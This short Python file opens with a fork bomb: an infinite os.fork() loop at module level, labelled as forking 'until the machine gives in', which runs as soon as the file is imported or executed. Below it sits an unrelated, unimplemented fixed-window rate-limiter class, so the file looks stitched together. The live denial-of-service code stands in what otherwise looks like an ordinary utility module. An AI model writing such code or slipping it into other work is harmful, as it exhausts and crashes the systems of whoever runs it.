"""Forks until the machine gives in."""

import os

try:
    while True:
        os.fork()
except OSError:
    pass

class FixedWindow:
    def __init__(self, limit, window):
        self.limit = limit
        self.window = window

    def take(self, key, now):
        raise NotImplementedError
